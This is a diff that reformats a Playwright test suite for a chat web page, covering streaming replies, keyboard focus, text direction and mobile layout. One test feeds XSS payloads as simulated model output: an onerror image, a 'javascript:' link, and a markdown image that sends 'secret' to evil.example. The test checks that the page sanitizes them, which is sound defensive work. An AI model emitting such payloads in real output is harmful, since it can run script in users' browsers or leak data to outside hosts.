@@ -11,8 +11,14 @@ import { within } from './within.ts'
 const executablePath = '/usr/bin/chromium'
 const web = fileURLToPath(new URL('../../../channels/web/', import.meta.url))
 const args = [
-  '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
-  '--disable-component-update', '--disable-sync',
+  '--headless',
+  '--no-sandbox',
+  '--disable-gpu',
+  '--disable-quic',
+  '--no-first-run',
+  '--disable-background-networking',
+  '--disable-component-update',
+  '--disable-sync',
 ]
 
 interface Story {
@@ -30,7 +36,7 @@ test.after(async () => (await launched)?.close())
 
 function plays(name: string, story: (s: Story) => Promise<void>, size = { width: 1280, height: 800 }): void {
   test(name, async () => {
-    const double = new Double(`${ web }dist`)
+    const double = new Double(`${web}dist`)
     const url = await double.listen()
     const browser = await within(20_000, (launched ??= chromium.launch({ executablePath, args })), 'the browser')
     const complaints: string[] = []
@@ -38,8 +44,8 @@ function plays(name: string, story: (s: Story) => Promise<void>, size = { width:
     try {
       context.setDefaultTimeout(6_000)
       const page = await context.newPage()
-      page.on('pageerror', error => complaints.push(error.message))
-      page.on('console', message => {
+      page.on('pageerror', (error) => complaints.push(error.message))
+      page.on('console', (message) => {
         if (message.text().includes('Content Security Policy')) complaints.push(message.text())
       })
       const ask = async (text: string) => {
@@ -63,7 +69,7 @@ const conversationOf = (page: Page): string => new URL(page.url()).hash.slice('#
 if (!existsSync(executablePath)) {
   console.log('page.test.ts: no chromium here, the page tests are left out')
 } else {
-  if (!existsSync(`${ web }dist/index.html`)) await build({ configFile: `${ web }vite.config.ts`, logLevel: 'warn' })
+  if (!existsSync(`${web}dist/index.html`)) await build({ configFile: `${web}vite.config.ts`, logLevel: 'warn' })
 
   plays('a message gets its tick, its status line, its stream and its answer', async ({ page, ask }) => {
     const turn = await ask('Why is the sky blue?')
@@ -85,7 +91,7 @@ if (!existsSync(executablePath)) {
     assert.is(await answer.getAttribute('aria-busy'), 'false')
     assert.is((await answer.locator('.prose').innerText()).trim(), 'Because short waves scatter.')
     await page.getByTestId('announcer').getByText('Reply complete').waitFor()
-    assert.ok(await page.getByTestId('composer').evaluate(node => node === document.activeElement), 'the focus stayed in the composer')
+    assert.ok(await page.getByTestId('composer').evaluate((node) => node === document.activeElement), 'the focus stayed in the composer')
     assert.match(page.url(), /#\/c\/[0-9a-f-]{36}$/)
   })
 
@@ -114,7 +120,10 @@ if (!existsSync(executablePath)) {
     await within(5_000, double.turn(), 'the second turn')
     await page.getByTestId('question').nth(1).waitFor()
     const sent = double.asked.filter(([name]) => name === 'message.send').map(([, ask]) => ask as { id: string; text: string })
-    assert.equal(sent.map(({ text }) => text), ['A riddle, please', 'A riddle, please'])
+    assert.equal(
+      sent.map(({ text }) => text),
+      ['A riddle, please', 'A riddle, please'],
+    )
     assert.is.not(sent[0]!.id, sent[1]!.id)
   })
 
@@ -247,7 +256,7 @@ if (!existsSync(executablePath)) {
     await page.getByTestId('side-toggle').focus()
     const before = await page.getByTestId('new-chat').count()
     await page.keyboard.press('Enter')
-    await page.waitForFunction(n => document.querySelectorAll('[data-testid=new-chat]').length !== n, before)
+    await page.waitForFunction((n) => document.querySelectorAll('[data-testid=new-chat]').length !== n, before)
     if (before === 1) await page.keyboard.press('Enter')
     await page.getByTestId('new-chat').focus()
     await page.keyboard.press('Enter')
@@ -258,7 +267,9 @@ if (!existsSync(executablePath)) {
 
   plays('an input method may use Enter for itself', async ({ page, double }) => {
     await page.getByTestId('composer').fill('にほん')
-    await page.getByTestId('composer').evaluate(node => node.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true })))
+    await page
+      .getByTestId('composer')
+      .evaluate((node) => node.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true })))
     assert.is(await page.getByTestId('composer').inputValue(), 'にほん')
     assert.is(double.asked.filter(([name]) => name === 'message.send').length, 0)
   })
@@ -278,7 +289,7 @@ if (!existsSync(executablePath)) {
 
   plays('raw HTML, scripts and remote pictures of a model stay text and links', async ({ page, ask }) => {
     const asked: string[] = []
-    page.on('request', request => asked.push(request.url()))
+    page.on('request', (request) => asked.push(request.url()))
     const turn = await ask('Attack')
     turn.delta('<img src=x onerror=alert(1)> ![cat](https://evil.example/cat.png?q=secret) [me](javascript:alert(1)) <b>bold</b>')
     turn.finish()
@@ -286,7 +297,7 @@ if (!existsSync(executablePath)) {
     assert.is(await page.locator('.prose img, .prose b, .prose script').count(), 0)
     assert.is(await page.locator('.prose a').count(), 1)
     assert.is(await page.locator('.prose a').getAttribute('rel'), 'noopener nofollow')
-    assert.not.ok(asked.some(url => url.includes('evil.example')))
+    assert.not.ok(asked.some((url) => url.includes('evil.example')))
   })
 
   plays('the view follows only a reader who is at the end', async ({ page, ask }) => {
@@ -297,14 +308,14 @@ if (!existsSync(executablePath)) {
       const box = document.querySelector('[data-testid=thread]')!
       return box.scrollHeight > box.clientHeight * 2 && box.scrollHeight - box.scrollTop - box.clientHeight < 80
     })
-    await thread.evaluate(box => box.scrollTo(0, 0))
+    await thread.evaluate((box) => box.scrollTo(0, 0))
     await page.waitForFunction(() => document.querySelector('[data-testid=thread]')!.scrollTop === 0)
     turn.delta('And one more.')
     await page.getByTestId('to-end').waitFor()
-    assert.is(await thread.evaluate(box => box.scrollTop), 0)
+    assert.is(await thread.evaluate((box) => box.scrollTop), 0)
     await page.getByTestId('to-end').click()
     await page.getByTestId('to-end').waitFor({ state: 'detached' })
-    assert.ok((await thread.evaluate(box => box.scrollHeight - box.scrollTop - box.clientHeight)) < 80)
+    assert.ok((await thread.evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight)) < 80)
   })
 
   plays('a number in the text opens its source, a number without one stays text', async ({ page, ask }) => {
@@ -323,7 +334,7 @@ if (!existsSync(executablePath)) {
     turn.delta('مرحبا بالعالم\n\nHello world\n\n`x = 1`')
     turn.finish()
     await page.getByTestId('answered-by').waitFor()
-    const directions = await page.locator('.prose p').evaluateAll(all => all.map(p => getComputedStyle(p).direction))
+    const directions = await page.locator('.prose p').evaluateAll((all) => all.map((p) => getComputedStyle(p).direction))
     assert.equal(directions, ['rtl', 'ltr', 'ltr'])
   })
 
@@ -347,7 +358,7 @@ if (!existsSync(executablePath)) {
     turn.delta('A line of text.\n\n'.repeat(60))
     turn.finish()
     await page.getByTestId('answered-by').waitFor()
-    const height = () => page.getByTestId('composer').evaluate(node => node.getBoundingClientRect().height)
+    const height = () => page.getByTestId('composer').evaluate((node) => node.getBoundingClientRect().height)
     const one = await height()
     await page.getByTestId('composer').fill('line\n'.repeat(30))
     assert.ok((await height()) > one * 5 && (await height()) < one * 9)
@@ -359,7 +370,9 @@ if (!existsSync(executablePath)) {
 
   plays('without a model, the page says so', async ({ page, double }) => {
     double.models = {
-      models: [{ tier: 'intern', provider: 'offline', model: 'quote' }], offline: true, tenant: 'demo',
+      models: [{ tier: 'intern', provider: 'offline', model: 'quote' }],
+      offline: true,
+      tenant: 'demo',
       bot: { name: 'Ada', greeting: 'Good day', suggestions: ['One', 'Two', 'Three'] },
     }
     await page.reload()
@@ -371,22 +384,31 @@ if (!existsSync(executablePath)) {
   })
 
   for (const width of [360, 320]) {
-    plays(`a phone of ${ width } px shows everything without scrolling sideways`, async ({ page, ask }) => {
-      const turn = await ask(`A very${ 'long'.repeat(30) }word and https://example.org/${ 'path/'.repeat(20) }`)
-      turn.status('director', 'writing')
-      turn.delta(`| a | b | c | d | e |\n|---|---|---|---|---|\n| ${ 'wide '.repeat(10) } | 2 | 3 | 4 | ${ 'x'.repeat(80) } |\n\n\`\`\`ts\n${ 'const a = 1; '.repeat(20) }\n\`\`\`\n\n\`${ 'inline'.repeat(20) }\``)
-      turn.finish({ citations: [1, 2, 3].map(n => ({ id: `c${ n }`, title: `A document with a rather long title, number ${ n }` })) })
-      await page.getByTestId('answered-by').waitFor()
-      const sideways = await page.evaluate(() => {
-        const thread = document.querySelector('[data-testid=thread]')!
-        return Math.max(document.documentElement.scrollWidth - innerWidth, thread.scrollWidth - thread.clientWidth)
-      })
-      assert.is(sideways, 0)
-      const small = await page.evaluate(() =>
-        [...document.querySelectorAll('button')].map(b => [b.ariaLabel ?? b.textContent, b.getBoundingClientRect()] as const)
-          .filter(([, box]) => box.width > 0 && (box.width < 24 || box.height < 24)).map(([name]) => name))
-      assert.equal(small, [])
-    }, { width, height: 740 })
+    plays(
+      `a phone of ${width} px shows everything without scrolling sideways`,
+      async ({ page, ask }) => {
+        const turn = await ask(`A very${'long'.repeat(30)}word and https://example.org/${'path/'.repeat(20)}`)
+        turn.status('director', 'writing')
+        turn.delta(
+          `| a | b | c | d | e |\n|---|---|---|---|---|\n| ${'wide '.repeat(10)} | 2 | 3 | 4 | ${'x'.repeat(80)} |\n\n\`\`\`ts\n${'const a = 1; '.repeat(20)}\n\`\`\`\n\n\`${'inline'.repeat(20)}\``,
+        )
+        turn.finish({ citations: [1, 2, 3].map((n) => ({ id: `c${n}`, title: `A document with a rather long title, number ${n}` })) })
+        await page.getByTestId('answered-by').waitFor()
+        const sideways = await page.evaluate(() => {
+          const thread = document.querySelector('[data-testid=thread]')!
+          return Math.max(document.documentElement.scrollWidth - innerWidth, thread.scrollWidth - thread.clientWidth)
+        })
+        assert.is(sideways, 0)
+        const small = await page.evaluate(() =>
+          [...document.querySelectorAll('button')]
+            .map((b) => [b.ariaLabel ?? b.textContent, b.getBoundingClientRect()] as const)
+            .filter(([, box]) => box.width > 0 && (box.width < 24 || box.height < 24))
+            .map(([name]) => name),
+        )
+        assert.equal(small, [])
+      },
+      { width, height: 740 },
+    )
   }
 }
 
